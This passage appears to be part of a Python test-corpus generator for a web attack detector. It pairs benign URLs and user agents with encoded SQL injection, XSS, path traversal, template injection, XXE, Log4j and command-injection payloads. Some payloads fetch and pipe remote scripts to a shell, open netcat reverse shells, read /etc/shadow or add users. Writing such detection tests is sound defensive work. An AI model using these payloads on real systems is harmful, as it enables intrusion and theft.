        return "/blog/%d/%02d/%s" % (rnd.randint(2010, 2024), rnd.randint(1, 12), slug)
    if t == 4:
        return "/api/v1/users/%d?fields=%s" % (n, rnd.choice(["name,email", "id|name", "name|id", "*"]))
    if t == 5:
        return "/static/js/app.%08x.js?v=%d" % (rnd.getrandbits(32), n)
    if t == 6:
        return "/landing/%s?%s" % (slug, utm)
    if t == 7:
        return "/shop/cart?item=%d&qty=%d&size=%s&color=%s" % (
            n, rnd.randint(1, 5), rnd.choice(["S", "M", "L", "XL"]), enc_text(rnd.choice(["navy blue", "rot", "noir", "黒"])))
    if t == 8:
        return "/auth/callback?code=%s&state=%s" % (b64tok(24).replace("+", "-").replace("/", "_").rstrip("="), b64tok(12))
    if t == 9:
        return "/api/search?filter=%s" % up.quote('{"category":"%s","price":{"lt":%d}}' % (phrase(), n))
    if t == 10:
        return "/r?url=%s" % up.quote("https://example.com/%s?a=1&b=%s" % (slug, enc_text(phrase())), safe="")
    if t == 11:
        return "/login?next=%s" % rnd.choice(["/account/orders", "%2Faccount%2Fsettings", "/cart?step=2"])
    if t == 12:
        return "/img/%s.jpg?w=%d&h=%d&fit=crop" % (slug, rnd.randint(100, 2000), rnd.randint(100, 2000))
    if t == 13:
        return "/track?gclid=%s&fbclid=%s&%s" % (b64tok(30).replace("/", "_").replace("+", "-"), b64tok(40).replace("/", "_").replace("+", "-"), utm)
    if t == 14:
        return "/comment?text=%s" % enc_text(rnd.choice(["I <3 this!", "1 < 2 and 3 > 2", "a < b", "x > y",
                                                        "great :) <3", "price <= 20", "5 > 3", "<3 <3 <3",
                                                        "Don't forget it's O'Brien's", "it's 50% off!"]) + " " + phrase())
    if t == 15:
        return "/token?t=%s" % up.quote(b64tok(rnd.randint(8, 48)), safe="")
    if t == 16:
        return "/wiki/%s" % up.quote(rnd.choice(WORDS_JA + WORDS_DE + WORDS_FR + WORDS_RU + WORDS_ES))
    if t == 17:
        return "/.well-known/acme-challenge/%s" % b64tok(32).replace("/", "_").replace("+", "-").rstrip("=")
    if t == 18:
        return "/~%s/index.html" % rnd.choice(["alice", "bob", "carol"])
    if t == 19:
        return "/download?file=%s.pdf&ref=%s" % (slug, rnd.choice(["../docs/index.html", "home", "mail"]))
    if t == 20:
        return "/forum/thread?id=%d&title=%s" % (n, enc_text(rnd.choice(NAMES) + " " + phrase()))
    if t == 21:
        return "/api/v2/events?since=2024-01-%02dT10:%02d:00Z&limit=%d&cursor=%s" % (rnd.randint(1, 28), rnd.randint(0, 59), rnd.randint(10, 100), b64tok(16))
    if t == 22:
        return "/calc?expr=%s" % enc_text(rnd.choice(["1+1", "2*3", "(4+5)/3", "10-2", "a=b", "x=1;y=2"]))
    if t == 23:
        return "/jobs?title=%s&location=%s" % (enc_text(rnd.choice(["C# developer", "C++ engineer", "Node.js dev", "SQL analyst", "DevOps (remote)"])), enc_text(rnd.choice(WORDS_DE + WORDS_JA)))
    return "/%s/%s?ref=%s" % (rnd.choice(["en", "ja", "de"]), slug, rnd.choice(["nav", "footer", "search"]))


TRICKY = """/search?q=select+a+size
/search?q=union+station
/search?q=drop-down+menu
/comment?text=%3C3
/comment?text=I+%3C3+NY
/search?q=1+%3C+2
/search?q=a+%3C+b
/people?name=O%27Brien
/music?genre=rock+%27n%27+roll
/search?q=Tom+%26+Jerry
/search?q=javascript%3A+the+good+parts
/search?q=how+to+use+union+in+sql
/search?q=select+size+and+color
/search?q=alert%28s%29+settings
/search?q=onload+event+handler
/search?q=exec+summary+template
/search?q=delete+my+account
/search?q=drop+table+furniture
/search?q=drop+table
/search?q=sleep+%288+hours%29
/search?q=%22quoted+phrase%22+or+something
/search?q=C%23+tutorial
/search?q=c%2B%2B+--+basics
/search?q=50%25+off
/search?q=price+10-20
/search?q=--help
/search?q=%3Cb%3Ebold%3C%2Fb%3E
/search?q=email+%3Ca%40b.com%3E
/search?q=what%27s+new%3F
/search?q=union+select+committee
/search?q=order+by+date
/search?q=1%3D1
/search?q=x%3Dy%3Dz
/search?q=Rock+%26+Roll+Hall+of+Fame
/search?q=cats+%7C+dogs
/search?q=this+%7C+that
/search?q=%28select+one%29
/search?q=where+is+union+station%3F
/search?q=I+%26lt%3B3+NY
/search?q=%26amp%3B+more
/search?q=script+writing+%26+directing
/search?q=%24100+gift+card
/search?q=%7Bcurly%7D+braces
/search?q=path%2Fto%2Ffile
/search?q=..%2Fdocs
/search?q=wait...+what
/search?q=version+2.0..3.0
/files/report..final.pdf
/docs/./intro.html
/a//b//c
/search?q=%E3%82%A8%E3%83%B3%E3%82%B8%E3%83%8B%E3%82%A2
/search?q=Gr%C3%B6%C3%9Fe+w%C3%A4hlen
/search?q=cr%C3%A8me+br%C3%BBl%C3%A9e
/search?q=Mar%C3%ADa+Jos%C3%A9
/page?redirect=https%3A%2F%2Fexample.com%2Fcallback%3Fcode%3Dabc%26state%3Dxyz
/oauth/authorize?redirect_uri=https://app.example.com/cb&response_type=code
/share?url=https://example.com/robots.txt
/api/items?ids=1,2,3&fields=id,name
/api/items?filter[status]=active&filter[type]=post
/blog/how-to-select-from-a-dropdown
/blog/union-select-committee-report
/blog/exec-summary-and-script
/search?q=fish+%26+chips
/search?q=dog+%26+cat+toys
/search?q=sleep+%26+relax
/search?q=eat%2C+sleep%2C+repeat
/search?q=who+am+i
/search?q=cat+%2Fetc
/search?q=type+of+cat
/search?q=ls+-la+meaning
/search?q=javascript%3Avoid%280%29
/link?href=javascript%3Avoid%280%29
/search?q=%22hello%22+said+she
/search?q=data%3A+the+new+oil
/search?q=expression+of+interest
/search?q=regular+expression%28s%29
/search?q=print+%28a4%29
/api/v1/query?q=%7B%22select%22%3A%5B%22id%22%5D%7D
/api/v1/query?json=%7B%22sort%22%3A%22-date%22%2C%22and%22%3A%5B1%2C2%5D%7D
/search?q=1+or+2
/search?q=10+or+12+inches
/search?q=O%27Reilly+or+Manning
/search?q=%27single+quotes%27
/search?q=it%27s+a+%27test%27
/search?q=Guns+N%27+Roses
/search?q=5%27+11%22
/search?q=12%22+pizza
/search?q=L%27Or%C3%A9al
/search?q=%3C%3C+older
/search?q=newer+%3E%3E
/search?q=-1
/search?q=--
/search?q=%23hashtag
/search?q=%23%23%23
/search?q=semi%3Bcolon
/search?q=pets%3B+dogs
/search?q=%28555%29+123-4567
/search?q=f%28x%29+%3D+x%5E2
/search?q=a%2Bb%3Dc
/search?q=sort+by+price+%7C+desc
/index.php?option=com_content&view=article&id=42
/wp-login.php?redirect_to=https%3A%2F%2Fexample.com%2Fwp-admin%2F&reauth=1
/wp-admin/admin-ajax.php?action=heartbeat
/page.aspx?__VIEWSTATE=%2FwEPDwUKMTY1NDU2MTA1MmRk
/index.jsp;jsessionid=A1B2C3D4E5F6
/shop/product;jsessionid=0123456789ABCDEF?id=5
/search?q=whoami+podcast
/search?q=uname+meaning
/search?q=curl+vs+wget
/search?q=bash+scripting+tutorial
/search?q=python+%7C+ruby
/search?q=php+%26+mysql
/search?q=%24%7Bvariable%7D+syntax
/search?q=%28%29+%3D%3E+%7B%7D
/search?q=template+%7B%7Bname%7D%7D
/search?q=100%25+cotton
/search?q=select%2A
/search?q=information+desk
/search?q=order+1+of+2
/search?q=group+by+size
/search?q=having+fun
/search?q=limit+1+per+customer
/search?q=sleep%28%29+function+python
/search?q=benchmark+results+2024
/search?q=%40%40handle
/search?q=user%40example.com
/.well-known/security.txt
/.well-known/openid-configuration
/robots.txt
/sitemap.xml
/favicon.ico
/apple-touch-icon.png
/ads.txt
/images/backup-camera.jpg
/products/old-school-sneakers
/blog/why-we-moved-from-dotenv
/docs/git-config-tutorial
/docs/env-variables
/downloads/app-1.2.3.tar.gz
/downloads/data-export-2024.csv
/static/site.css
/static/web.css
/assets/db.png
/search?q=backup.zip+recovery
/search?q=.env+file+example
/search?q=wp-config.php+location
/help/server-status-page
/search?q=phpinfo+alternative
/api/keys/list
/account/passwd
/search?q=passwd+command
/search?q=etc%2Fpasswd+explained
/search?q=%2Fetc%2Fhosts+file
/search?q=windows+system32+folder
/search?q=http%3A%2F%2Fexample.com
/go?to=http%3A%2F%2Fexample.com%2Fpage
/page?page=2
/page?file=report.pdf
/view?path=%2Fdocs%2Fintro
/view?template=default
/view?include=comments,author
/search?q=c%3A%5Cprogram+files
/search?q=%5Cn+newline+escape
/search?q=back%5Cslash
/search?q=%7E%2F.bashrc+tips
/search?q=jndi+lookup+tutorial
/search?q=log4j+%24%7Bjndi%7D+explained
/search?q=%24%7Bprice%7D
/search?q=shellshock+explained
/search?q=function%28%29+%7B%7D
/search?q=%25%7Bvar%7D+syntax
/search?q=OGNL+tutorial
/search?q=class.forName+java
/search?q=-d+option
/search?q=-s
/?-page=2
/index.php?-hidden=1
/search?q=union%0Astation
/search?q=hello%0Aworld
/search?q=line1%0D%0Aline2
/search?q=tab%09separated""".strip().split("\n")


# ---- second round (issue 21): classes the first corpus lacked, written
# from the grammar of each language and the encodings of the tools, not
# copied from any public list. A separate generator keeps the first
# round's lines byte-identical.
rnd2 = random.Random(20261206)


def b64(s):
    import base64
    return base64.b64encode(s.encode()).decode()


def e_triple(p):
    return q(q(q(p)))


def e_iis_u(p):  # IIS %u with fullwidth dots and slashes
    fw = {".": "%uff0e", "/": "%u2215", "\\": "%u2216", "<": "%uff1c", ">": "%uff1e", "'": "%uff07"}
    return "".join(fw.get(ch, ch) for ch in p)


def e_overlong(p):  # two-byte overlong UTF-8 for the punctuation
    return "".join("%%c0%%%02x" % (0x80 | ord(ch)) if ch in "./\\<>'\"" else ch for ch in p)


def e_hexdot(p):  # "0x2e" spelled dots and slashes (dotdotpwn)
    return p.replace(".", "0x2e").replace("/", "0x2f").replace("\\", "0x5c")


def e_b64(p):
    return q(b64(p))


R2_ENC = [e_plain, e_pct, e_double, e_triple, e_form]

SQLI_R2 = [
    "1 OR 2>1-- -", "5 ORDER BY 22", "5 ORDER BY 22--", "7 AND (SUBSTRING((version()),1,1))=5/*",
    "3 AND 4512=CONVERT(INT,(SELECT @@version))", "0 UNION/*!50000SELECT*/ 1,2,3",
    "2 /*!12345UNION*/ /*!12345SELECT*/ user(),2", "9 UNION#x\nSELECT 1,2--",
    "4 AND 8=8 -- note\nAND 2>1", "1) AND 3333=3333 AND (4444=4444", "11') AS abc WHERE 6767=6767 -- -",
    "1;CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(66),0),90000000),NULL)",
    "1 AND 1=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(300000000/2))))",
    "1 AND ELT(5=5,SLEEP(3))", "1 RLIKE (SELECT (CASE WHEN (77=77) THEN 1 ELSE 0x28 END))",
    "1' AND MAKE_SET(8=8,4)-- x", "1`=`1` AND SLEEP(4) AND `1`=`1", "1\\' OR 3=3 -- ",
    "-5 OR BINARY 6=BINARY 6", "1 HAVING 12=12", "1 OR x=x--", " or 9=9#", " and 3=4 -- ",
    "1));IF(22=22) SELECT 22 ELSE DROP FUNCTION xyz--", "1 AND 2=(SELECT 2 FROM PG_SLEEP(4))",
    "1 OR 7=(SELECT COUNT(*) FROM GENERATE_SERIES(1,9000000))", "1 AND IIF(4=4,1,1/0)=1",
    "1 AND 5=CASE 9 WHEN 9 THEN 5 ELSE 0 END", "x' || UTL_INADDR.GET_HOST_NAME('10.0.0.1') || '",
    "1;EXEC master..xp_cmdshell 'ping 10.0.0.1'--", "1 UNION ALL SELECT NULL,NULL,CONCAT(0x7171,0x7172)-- -",
]

XSS_R2 = [
    "&#X00003C;script&#X00003E;alert(1)&#X00003C;/script&#X00003E;",
    "&#60script&#62confirm(2)&#60/script&#62",
    "<xsl:stylesheet version=\"1.0\"><xsl:template match=\"/\"><b>x</b></xsl:template></xsl:stylesheet>",
    "<html xmlns:v=\"urn:x\" onload=alert(4)>", "<!--[if gte IE 4]><b>x</b><![endif]-->",
    "<isindex type=image src=1 onerror=alert(6)>", "<style>@import 'http://evil.example/x.css';</style>",
    "\"onmouseover=prompt(7)//", "'onfocus=alert(8) autofocus x='", "x\"autofocus/onfocus=confirm(3)//",
    "<div style=\"width:expr/**/ession(alert(9))\">", "<b style=x:ex\\pression(alert(10))>",
    "<layer src=\"http://evil.example/a.html\"></layer>", "<bgsound src=\"javascript:alert(12)\">",
    "<br size=\"&{alert(13)}\">", "}confirm(14);{//", " onclick=\"document.location='//evil.example'\"",
]
XSS_R2_B64 = ["<script>alert(11)</script>", "<svg onload=alert(15)>", "<img src=x onerror=prompt(16)>"]

TRAV_R2 = [
    "../../../etc/passwd", "../../../../windows/win.ini", "/etc/passwd", "/proc/self/environ",
    "/proc/self/environ\x00", "/etc/mysql/my.cnf", "/var/log/nginx/error.log",
    "/usr/local/apache2/conf/httpd.conf", "c:/inetpub/wwwroot/web.config",
    "C:\\Windows\\System32\\drivers\\etc\\hosts", "file:/etc/shadow", "/./././etc/passwd",
    ". ./. ./. ./etc/passwd", ".. /.. /.. /etc/group", "/opt/lampp/etc/php.ini",
    "/home/www/conf/httpd.conf", "C:\\boot.ini", "c:windows\\win.ini", "/etc/hosts%00",
]
TRAV_R2_RAW = [
    "..%c0%5c..%c0%5cboot.ini", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/hosts",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", "..%u2216..%u2216..%u2216boot.ini",
    "%252e%252e%255c%252e%252e%255cwindows%255cwin.ini", "%25252e%25252e%25252fetc%25252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afshadow",
]

CMDI_R2 = [
    "x|/usr/bin/id", "&& sysinfo", "|usr/bin/id", "| dir c:/", "a;id\\x09-u", "1;uname\\x0b-a",
    "z;cat$IFS$9/etc/passwd", "q&&cat${IFS}/etc/hosts", "cat<<<$(id)", ":(){ :|:& };:",
    "if \"%1\"==\"\" goto end", "<!--#exec cmd=\"ls -la\"-->", "<!--#include virtual=\"/etc/passwd\"-->",
    ";system('uname -a');", "perl -e 'system(\"id\")'", "ls -l /home/*", "cmd.exe /c dir",
    "net user mallory P4ss /add", "& netsh advfirewall set allprofiles state off",
    "| reg query HKLM\\Software", "nc -lvnp 4444 -e /bin/sh", "a)|whoami", "\\nid\\n",
    "$(printf 'id')", "exec('ping -c 2 10.0.0.1')", "os.system('id')",
]

CODE_R2 = [
    "<?php echo shell_exec($_GET['c']); ?>", "<?=`$_GET[0]`?>", "{${system('id')}}",
    "${@phpinfo()}", "{{7*7}}", "{{7*'7'}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.items()}}", "${7*7}", "#{7*7}", "*{7*7}", "<%= 7*7 %>", "${{7*7}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "aced0005737200", "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    "';eval(base64_decode('cGhwaW5mbygpOw=='));//", ";assert($_POST[x]);",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    ";{$_GET[\"c\"]}", "x';phpinfo();//",
]

BENIGN_R2 = [
    "/search?q=O%27Reilly%3B+2nd+ed.", "/search?q=%22hello+world%22%3B+test", "/search?q=rock+%27n%27+roll%3B+live",
    "/search?q=it%27s+5+o%27clock%3B+somewhere", "/search?q=price%3A+%245+%7Bsale%7D", "/search?q=%7B%7Bname%7D%7D",
    "/search?q=%24%7Bprice%7D+template", "/search?q=%23%7Bid%7D", "/search?q=x%3D7*7", "/search?q=(a%2Bb)*c",
    "/search?q=order+by+price", "/search?q=union+station+chicago", "/search?q=select+committee+report",
    "/search?q=cat+%26+dog", "/search?q=ls+-la+meaning", "/search?q=what+is+%2Fetc%2Fhosts+for",
    "/search?q=c%3A%5Cprogram+files", "/search?q=1%3D1+meaning", "/search?q=he+said+%22stop%22%3B+she+left",
    "/search?q=%22--force%22+option%3B+careful", "/search?q=%27--dry-run%27+flag", "/search?q=semicolons%3B+and%3B+more%3B",
    "/search?q=Tom+%26+Jerry%3B+%22The+Movie%22", "/search?q=3%27+x+5%27+rug", "/search?q=5%27+11%22+height",
    "/blog/union-select-guide-for-beginners", "/articles/etc/passwords-you-should-never-use",
    "/account/orders?return=%2Faccount%2Fsettings", "/login?next=%2Fhome%2Fdashboard",
    "/docs?redirect=%2Fdocs%2Fphp-ini-guide", "/download?file=report-2024.pdf", "/img?path=%2Fstatic%2Fimg%2Flogo.png",
    "/landing?utm_source=google&utm_medium=cpc&utm_campaign=select_summer&utm_content=union%7Cbanner",
    "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=cat%2Fetc",
    "/api/session?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "/cart?state=dGhpcyBpcyBqdXN0IGEgc3RhdGUgdG9rZW4gZm9yIHRoZSBjYXJ0", "/oauth/callback?code=Li4vaGVscA&state=x",
    "/search?q=%26amp%3B+more", "/search?q=whoami", "/search?q=%3C3+you", "/search?q=a+%3C+b+%3E+c",
    "/forum/search.php?keywords=how+to+use+%60ls%60+and+%60grep%60", "/search?q=sleep+8+hours",
    "/search?q=type+2+diabetes", "/search?q=javascript%3A+the+good+parts", "/search?q=alert+(1)+meaning",
    "/search?q=%2Fvar%2Flog+is+full%2C+what+now", "/search?q=error.log+rotation", "/search?q=drop+table+tennis",
]


def r2_lines(payloads, encoders, params, raw=False):
    out = []
    for p in payloads:
        encs = [lambda x: x] if raw else rnd2.sample(encoders, min(3, len(encoders)))
        for e in encs:
            out.append("%s?%s=%s%s" % (rnd2.choice(ENDPOINTS), rnd2.choice(params), e(p),
                                       rnd2.choice(["", "&lang=en", "&page=2"])))
    return out


SQLI_R2_RAW = [  # as sent: MySQL's 0xA0 blank, sqlmap's --sp_password log trick
    "5%A0OR%A09%3D9--", "1%27%A0AND%A0SLEEP(3)%23", "1%27%20AND%201%3D1--sp_password",
    "x%27%20or%20select%20*", "7%27%20or%20(select%201)%3D1--",
]


def round2():
    sqli = r2_lines(SQLI_R2, R2_ENC + [e_sqlcomment], ["id", "item", "cat", "sort"])
    sqli += r2_lines(SQLI_R2_RAW, [], ["id", "q"], raw=True)
    xss = r2_lines(XSS_R2, R2_ENC, ["q", "name", "comment", "msg"])
    xss += r2_lines(XSS_R2_B64, [e_b64], ["data", "html", "msg"])
    trav = r2_lines(TRAV_R2, R2_ENC + [e_iis_u, e_overlong, e_hexdot], ["file", "page", "doc", "path"])
    trav += r2_lines(TRAV_R2_RAW, [], ["file", "path"], raw=True)
    trav += r2_lines(["../../../etc/passwd", "/etc/shadow", "..\\..\\boot.ini"], [e_b64], ["file", "f"])
    cmdi = r2_lines(CMDI_R2, R2_ENC, ["ip", "host", "cmd", "target"])
    code = r2_lines(CODE_R2, R2_ENC, ["q", "name", "tpl", "data", "x"])
    exploit = ["/?x=" + q("\\u0024{jndi:ldap://x.example/a}"), "/?x=\\u0024\\u007bjndi:rmi://x.example/b}"]
    return sqli, xss, trav, cmdi, code, exploit


# ---- third round (issue 21, the last gaps): a command piped to from a
# word the application put before the value ("a|id"), and sqlmap's
# space2plus tamper (every blank a literal '+', sent encoded as %2B).
# Written from the shell's and SQL's grammar; the benign look-alikes are
# the lists of names and the arithmetic that share those shapes.
rnd3 = random.Random(20261207)

CMDI_R3 = [
    "a|id", "x|id|", "/index.html|id|", "/var/www/x|id", "q|pwd", "foo|ls", "item|ls -la",
    "b&id", "z|id;", "t|dir", "c|whoami", "k|ls#", "test|wc -l /etc/passwd", "v|sudo -l",
    "img.png|nc 10.0.0.1 4444", "m|uname", "report.pdf|pwd|",
]

SQLI_R3 = [  # spaces become '+' before encoding, as the tamper does
    "1 AND 9227=9227", "1)) OR 8405=(SELECT 8405)", "1' AND 'a'='a", "-1 UNION ALL SELECT NULL,NULL-- -",
    "1 AND SLEEP(5)", "1 ORDER BY 5--", "1' OR 3=3-- -", "2 AND (SELECT 1 FROM DUAL)=1",
]

BENIGN_R3 = [
    "/search?q=1%2B1%3D2", "/calc?expr=2%2B2%3D4", "/search?q=c%2B%2B", "/search?q=a%2Bb%3Db%2Ba",
    "/tz?offset=%2B02%3A00", "/search?q=%2B33612345678", "/api/session?sig=ab%2Bcd%2Fef%3D%3D",
    "/search?q=rock%2Bor%2Broll", "/search?q=select%2Bsize", "/search?q=cats%2Band%2Bdogs",
    "/search?q=order%2Bby%2Bprice", "/search?q=union%2Bstation", "/search?q=2%2B3%2A4",
    "/products?filter=price%3E10%2Band%2Bprice%3C20", "/search?q=%22hello%22%2B%22world%22",
    "/search?q=it%27s%2Bfree", "/search?q=drop%2Bshipping", "/search?q=1%2Bx%2B1",
    "/search?q=manpages-%7Bde%7Cnl%7D", "/api/v1/files?enc=hex|base64", "/api/v1/hosts?fields=ip|hostname|uptime",
    "/search?q=(control|watch)", "/search?q=tom%26jerry", "/api/v1/jobs?cols=id|name|env",
    "/search?q=shoes&lang=en|de|nl", "/search?q=boots&sort=name|dir", "/products?size=s|m|l",
    "/api/v1/users?fields=user.name|id", "/api/v1/users?fields=email|id", "/search?q=python|ruby|php",
    "/search?q=bash|zsh|fish", "/search?q=sed|awk", "/search?q=x|y", "/api/v1/jobs?filter=status|env",
    "/search?q=rock%26roll", "/api/v1/users?fields=name|id|email",
]


def e_bar(p):  # as a browser bar sends it: only what would split the query encoded
    return p.replace(" ", "+").replace("&", "%26").replace("#", "%23")


def round3():
    cmdi = []
    for p in CMDI_R3:
        for e in rnd3.sample([e_pct, e_double, e_bar], 2):
            cmdi.append("%s?%s=%s%s" % (rnd3.choice(ENDPOINTS), rnd3.choice(["file", "page", "name", "q"]),
                                        e(p), rnd3.choice(["", "&lang=en", "&page=2"])))
    sqli = []
    for p in SQLI_R3:
        for e in (e_pct, e_double):
            sqli.append("%s?%s=%s" % (rnd3.choice(ENDPOINTS), rnd3.choice(["id", "item", "cat"]),
                                      e(p.replace(" ", "+"))))
    return sqli, cmdi


# ---- fourth round (issue 21, h21c): what the fast path and the query's
# split hid. Gap 1: a payload whose '&' or "&&" was sent unencoded, so
# the query splits inside it ("?ip=127.0.0.1&&cat /etc/passwd"). The
# separators are commix's (";", "&", "|", "&&", "||", newline: its
# settings.py SEPARATORS_LVL1, which recent versions write raw and encode
# last), the shapes those of its classic and time-based techniques
# (echo TAG$((a+b))$(echo TAG)TAG, sleep N), of DVWA's command injection
# exercise and PortSwigger's probes ("& whoami &", "||ping -c 10 ...||");
# "&& sysinfo" and "| dir c:/" are the issue's. The benign twins follow
# the form encoding's grammar (the WHATWG URL Standard's
# application/x-www-form-urlencoded parser: '&' splits, an empty
# sequence is skipped, a sequence without '=' is a name with an empty
# value) and RFC 3986, where '&' is only a sub-delimiter: doubled and
# trailing '&', flags without a value, an unencoded '&' inside a value.
rnd4 = random.Random(2026120701)

CMDI_R4_AMP = [
    "127.0.0.1&&cat /etc/passwd", "127.0.0.1&&id", "127.0.0.1&whoami", "127.0.0.1 && sysinfo",
    "127.0.0.1&& dir c:/", "127.0.0.1 & ipconfig /all", "127.0.0.1&net user", "localhost&&uname -a",
    "8.8.8.8&&ls -la /var/www", "1&&sleep 5", "1&sleep 5&", "x&&echo JRKVSV$((41+12))$(echo JRKVSV)JRKVSV",
    "& whoami &", "&&pwd", "test&&ps aux", "127.0.0.1&&wget http://203.0.113.9/x.sh -O /tmp/x",
    "127.0.0.1 & ping -n 3 127.0.0.1 &", "example.com&&nslookup x.oast.example", "1&id&",
    "127.0.0.1&&curl http://203.0.113.9/a|sh", "a&&tasklist", "127.0.0.1&&type c:/windows/win.ini",
]

XSS_R4_AMP = [  # HTML entities with their '&' unencoded: each '&' splits the query
    # (a tag with an attribute, "&lt;img src=x ...", splits into a segment
    # with '=', a parameter of its own to the form grammar: not joined)
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
    "&quot;&gt;&lt;script&gt;prompt(1)&lt;/script&gt;",
]

BENIGN_R4_AMP = [
    "/search?q=shoes&&page=2", "/search?q=shoes&", "/list?print&page=2", "/list?page=2&print",
    "/search?q=Tom&Jerry", "/search?q=AT&T+phones", "/search?q=salt&pepper&sort=price",
    "/item?id=42&preview", "/cart?add&sku=123", "/feed?rss&lang=en", "/wiki/Main?action=edit&minor",
    "/search?q=rock&roll", "/x?a=1&b&c=2", "/docs?toc&section=3", "/search?q=black&decker",
    "/search?q=dogs&cats+toys", "/x?&a=1", "/service.asmx?wsdl", "/search?q=Johnson&Johnson+shampoo",
    "/search?q=M&S+food&&sort=new", "/img/a.png?v=3&&", "/s?q=bed&breakfast+kyoto",
    "/s?q=Barnes&Noble", "/s?q=P&O+ferries", "/news?id=7&amp;page=2", "/s?q=R&D+jobs&page=3",
    "/s?q=Q&A", "/s?q=H&M&color=red", "/s?q=fish&chips&near=me", "/s?q=Ben&Jerry%27s",
    "/api/items?limit=20&&offset=40", "/s?q=drag&drop+upload", "/watch?v=abc123&feature=share&",
]


# Gap 2: a command in the user agent, where every browser sends ';', '('
# and ')'. The forms, and commix's header injection (it tests the
# User-Agent at --level 3 with the same separators and payloads as a
# parameter); the benign twins are agents real clients send, in-app
# browsers, crawlers and libraries among them.
UA_CMDI_R4 = [
    "Mozilla/5.0; $(curl x|sh)", "`wget http://203.0.113.9/x -O /tmp/x`", "Mozilla/5.0; nc -e /bin/sh 203.0.113.5 4444",
    "Mozilla/5.0 (X11; Linux x86_64); id", "Mozilla/5.0;echo JRKVSV$((41+12))$(echo JRKVSV)JRKVSV",
    "Mozilla/5.0;sleep 5", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) && whoami", "; nc -e sh 203.0.113.5 4444",
    "Mozilla/5.0|id", "Mozilla/5.0 (compatible; MSIE 9.0); cat /etc/passwd", "x;uname -a",
    "Mozilla/5.0 (Windows NT 6.1) & ipconfig /all", "Mozilla/5.0;ls -la /var/www",
]

BENIGN_UA_R4 = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    "[FBAN/FBIOS;FBAV/456.0.0.41.109;FBBV/580012345;FBDV/iPhone14,2;FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBSS/3;FBID/phone;"
    "FBLC/ja_JP;FBOP/5;FBRV/0]",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 Instagram 330.0.0.40.92 Android (33/13; 450dpi; "
    "1080x2177; samsung; SM-A536B; a53x; s5e8825; ja_JP; 594512345)",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "okhttp/4.12.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.3", "Wget/1.21.3 (linux-gnu)",
    "curl/7.88.1", "Java/17.0.9", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 "
    "Safari/605.1.15 Line/14.5.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile "
    "Safari/537.36 EdgA/124.0.2478.64",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 "
    "OPR/110.0.0.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E; .NET CLR 2.0.50727; "
    ".NET CLR 3.0.30729; .NET CLR 3.5.30729; Microsoft Outlook 16.0.5435; ms-office; MSOffice 16)",
    "Mozilla/5.0 (PlayStation; PlayStation 5/8.20) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
    "Googlebot-Image/1.0", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
]


# Gap 3: exploit paths with sqlmap's percentage tamper (a '%' before
# every letter, which ASP drops), on the paths of the advisories: Oracle
# WebLogic CVE-2020-14882 (console.portal) and CVE-2017-10271
# (wls-wsat), PHPUnit CVE-2017-9841 (eval-stdin.php),
# Liferay CVE-2020-7961 (/api/jsonws/invoke), F5 BIG-IP CVE-2020-5902
